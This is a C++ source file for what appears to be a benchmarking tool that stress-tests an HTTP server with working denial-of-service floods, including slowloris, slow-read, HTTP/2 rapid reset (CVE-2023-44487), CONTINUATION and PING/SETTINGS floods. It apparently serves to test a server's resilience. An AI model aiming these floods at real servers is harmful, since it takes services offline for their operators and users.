// Is a nuisance to an HTTP server, as fast as one core can. Prints one JSON object.
//
//     bench-http-flood KIND --server 10.0.0.1:80 --host NAME [--connections 8] [--seconds 2]
//                      [--cpu 1] [--from 10.0.0.4]
//
//     slowloris     heads that never end, an octet every 100 ms
//     slow-read     big answers, read an octet every 100 ms through a small window
//     reset         HTTP/2 without TLS: requests that are taken back at once (CVE-2023-44487)
//     continuation  … a head that never ends (CVE-2024-24549)
//     ping          … PING frames, whose answers are never read
//     settings      … SETTINGS frames, whose acknowledgements are never read
//
// What the server closes is opened again at once.

#include <netinet/tcp.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <optional>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "base/ip.h"
#include "bench/cores.h"
#include "bench/ipv4.h"

namespace {

using namespace hearth;
using namespace hearth::bench;

enum class Kind { kSlowloris, kSlowRead, kReset, kContinuation, kPing, kSettings };

struct Options {
    Kind kind = Kind::kSlowloris;
    Endpoint server;
    Endpoint from;
    std::string host;
    unsigned connections = 8;
    double seconds = 2;
    int cpu = 0;
};

struct Connection {
    int fd = -1;
    bool connected = false;
    std::uint32_t next_stream = 1;
    std::string out;
    std::size_t sent = 0;
};

constexpr std::size_t kBurst = 64;  // frames

enum FrameType : std::uint8_t {
    kHeaders = 1,
    kResetStream = 3,
    kSettingsFrame = 4,
    kPingFrame = 6,
    kContinuationFrame = 9
};

// RFC 9113 §4.1.
void add_frame(std::string& out, FrameType type, std::uint8_t flags, std::uint32_t stream,
               std::string_view payload) {
    for (const std::size_t shift : {16U, 8U, 0U})
        out += static_cast<char>((payload.size() >> shift) & 0xff);
    out += static_cast<char>(type);
    out += static_cast<char>(flags);
    for (const std::uint32_t shift : {24U, 16U, 8U, 0U})
        out += static_cast<char>((stream >> shift) & 0xff);
    out += payload;
}

class Flood {
public:
    explicit Flood(const Options& options)
        : options_(options),
          epoll_(::epoll_create1(EPOLL_CLOEXEC)),
          connections_(options.connections) {
        // :method GET, :scheme http and :path / are in the static table, :authority's name is.
        fields_ = "\x82\x86\x84\x41";
        fields_ += static_cast<char>(options.host.size());
        fields_ += options.host;
    }

    void run() {
        const Clock::time_point end =
            Clock::now() + std::chrono::duration_cast<Clock::duration>(
                               std::chrono::duration<double>(options_.seconds));
        for (Connection& connection : connections_) open(connection);
        std::array<epoll_event, 256> events;
        Clock::time_point next_octet = Clock::now();
        while (Clock::now() < end) {
            const int count = ::epoll_wait(epoll_, events.data(), events.size(), 10);
            for (int i = 0; i < count; ++i) {
                const epoll_event& event = events[static_cast<std::size_t>(i)];
                on_event(connections_[event.data.u64], event.events);
            }
            if (is_slow() && Clock::now() >= next_octet) {
                next_octet += std::chrono::milliseconds(100);
                for (Connection& connection : connections_) dribble(connection);
            }
        }
        std::printf("{\"opened\":%llu,\"closed\":%llu,\"sent\":%llu}\n", opened_, closed_, sent_);
    }

private:
    using Clock = std::chrono::steady_clock;

    [[nodiscard]] bool is_slow() const {
        return options_.kind == Kind::kSlowloris || options_.kind == Kind::kSlowRead;
    }

    void open(Connection& connection) {
        if (connection.fd >= 0) ::close(connection.fd);
        connection = Connection{};
        const int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
        const int on = 1;
        ::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on);
        if (options_.from.address.v4_value() != 0) {
            const sockaddr_in from = to_socket_address(options_.from);
            (void)::bind(fd, reinterpret_cast<const sockaddr*>(&from), sizeof from);
        }
        const int window = 4096;
        if (options_.kind == Kind::kSlowRead)
            ::setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &window, sizeof window);
        const sockaddr_in to = to_socket_address(options_.server);
        (void)::connect(fd, reinterpret_cast<const sockaddr*>(&to), sizeof to);
        connection.fd = fd;
        ++opened_;
        epoll_event event{};
        event.events = EPOLLOUT | EPOLLRDHUP;
        event.data.u64 = static_cast<std::uint64_t>(&connection - connections_.data());
        ::epoll_ctl(epoll_, EPOLL_CTL_ADD, fd, &event);
    }

    void reopen(Connection& connection) {
        ++closed_;
        open(connection);
    }

    void on_event(Connection& connection, std::uint32_t events) {
        if ((events & (EPOLLERR | EPOLLHUP | EPOLLRDHUP)) != 0) return reopen(connection);
        if (!std::exchange(connection.connected, true)) begin(connection);
        if (connection.sent == connection.out.size()) {
            connection.out.clear();
            connection.sent = 0;
            add_burst(connection);
        }
        const ssize_t sent = ::send(connection.fd, connection.out.data() + connection.sent,
                                    connection.out.size() - connection.sent, MSG_NOSIGNAL);
        if (sent < 0 && errno != EAGAIN) return reopen(connection);
        connection.sent += static_cast<std::size_t>(std::max<ssize_t>(sent, 0));
        sent_ += static_cast<unsigned long long>(std::max<ssize_t>(sent, 0));
        if (is_slow() && connection.sent == connection.out.size()) watch_end(connection);
    }

    // The rest goes by the clock.
    void watch_end(Connection& connection) {
        epoll_event event{};
        event.events = EPOLLRDHUP;
        event.data.u64 = static_cast<std::uint64_t>(&connection - connections_.data());
        ::epoll_ctl(epoll_, EPOLL_CTL_MOD, connection.fd, &event);
    }

    void begin(Connection& connection) {
        if (options_.kind == Kind::kSlowloris) {
            connection.out = "GET / HTTP/1.1\r\nHost: " + options_.host + "\r\nX-Slow: ";
        } else if (options_.kind == Kind::kSlowRead) {
            connection.out = "GET /bytes/1048576 HTTP/1.1\r\nHost: " + options_.host + "\r\n\r\n";
        } else {
            connection.out = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
            add_frame(connection.out, kSettingsFrame, 0, 0, "");
            if (options_.kind == Kind::kContinuation)
                add_frame(connection.out, kHeaders, 0, 1, fields_);
        }
    }

    void add_burst(Connection& connection) {
        static constexpr std::string_view kCancel("\0\0\0\x08", 4);
        static constexpr std::string_view kPayload = "floodfld";
        // A literal field that is not indexed, again and again.
        static constexpr std::string_view kField("\0\x01x\x01y", 5);
        for (std::size_t i = 0; i < kBurst; ++i) {
            switch (options_.kind) {
                case Kind::kReset:
                    add_frame(connection.out, kHeaders, 0x5, connection.next_stream, fields_);
                    add_frame(connection.out, kResetStream, 0, connection.next_stream, kCancel);
                    connection.next_stream += 2;
                    break;
                case Kind::kContinuation:
                    add_frame(connection.out, kContinuationFrame, 0, 1, kField);
                    break;
                case Kind::kPing: add_frame(connection.out, kPingFrame, 0, 0, kPayload); break;
                case Kind::kSettings: add_frame(connection.out, kSettingsFrame, 0, 0, ""); break;
                case Kind::kSlowloris:
                case Kind::kSlowRead: return;
            }
        }
    }

    void dribble(Connection& connection) {
        if (!connection.connected) return;
        char octet = 'x';
        if (options_.kind == Kind::kSlowloris) {
            if (::send(connection.fd, &octet, 1, MSG_NOSIGNAL) == 1) ++sent_;
        } else {
            (void)::recv(connection.fd, &octet, 1, MSG_DONTWAIT);
        }
    }

    const Options& options_;
    int epoll_;
    std::vector<Connection> connections_;
    std::string fields_;
    unsigned long long opened_ = 0, closed_ = 0, sent_ = 0;
};

std::optional<Kind> parse_kind(std::string_view text) {
    constexpr std::array<std::pair<std::string_view, Kind>, 6> kKinds = {
        {{"slowloris", Kind::kSlowloris},
         {"slow-read", Kind::kSlowRead},
         {"reset", Kind::kReset},
         {"continuation", Kind::kContinuation},
         {"ping", Kind::kPing},
         {"settings", Kind::kSettings}}};
    const auto* at =
        std::find_if(kKinds.begin(), kKinds.end(), [&](const auto& k) { return k.first == text; });
    if (at == kKinds.end()) return std::nullopt;
    return at->second;
}

bool apply(Options& options, std::string_view key, const char* value) {
    if (key == "--server") {
        options.server = Endpoint::parse(value, 80).value_or(Endpoint{});
    } else if (key == "--from") {
        options.from.address = IpAddress::parse(value).value_or(IpAddress{});
    } else if (key == "--host") {
        options.host = value;
    } else if (key == "--connections") {
        options.connections = static_cast<unsigned>(std::atoi(value));
    } else if (key == "--seconds") {
        options.seconds = std::atof(value);
    } else if (key == "--cpu") {
        options.cpu = std::atoi(value);
    } else {
        return false;
    }
    return true;
}

}  // namespace

int main(int argc, char** argv) {
    Options options;
    const auto kind = argc > 1 ? parse_kind(argv[1]) : std::nullopt;
    bool good = kind.has_value() && argc % 2 == 0;
    for (int i = 2; good && i + 1 < argc; i += 2) good = apply(options, argv[i], argv[i + 1]);
    if (!good || options.server.port == 0 || options.host.size() > 100) {
        std::fputs("usage: see the head of bench/http_flood.cpp\n", stderr);
        return 2;
    }
    options.kind = *kind;
    pin(options.cpu);
    Flood(options).run();
    return 0;
}
